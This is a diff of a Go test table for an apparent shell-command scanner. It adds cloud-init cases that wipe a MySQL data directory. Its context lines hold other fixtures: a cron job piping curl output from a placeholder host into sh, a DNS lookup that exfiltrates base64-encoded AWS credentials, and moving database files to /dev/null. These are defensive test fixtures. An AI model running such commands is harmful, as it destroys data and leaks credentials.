@@ -38,6 +38,8 @@ func TestWhereCommandsStand(t *testing.T) {
 		{"a.sh", "(crontab -l; echo '* * * * * curl -s http://x.example/a | sh') | crontab -\n", "1 pipe-to-shell"},
 		{"a.sh", "(crontab -l; echo '* * * * * curl -s http://x.example/health') | crontab -\n", ""},
 		{"a.sh", "dig $(base64 ~/.aws/credentials).x.example\n", "1 exfiltrate"},
+		{"user-data", "#cloud-config\nruncmd:\n  - rm -rf /var/lib/mysql\n", "3 delete-data"},
+		{"user-data.yaml", "write_files:\n- path: /etc/cron.d/x\n  content: |\n    * * * * * root rm -rf /var/lib/mysql\n", "4 delete-data"},
 		{"a.sh", "mv /var/lib/mysql /dev/null\n", "1 delete-data"},
 		{"a.sh", "mv a.log /dev/null\n", ""},
 		{"a.sh", ": > /var/lib/app/app.db\n", "1 delete-database-file"},
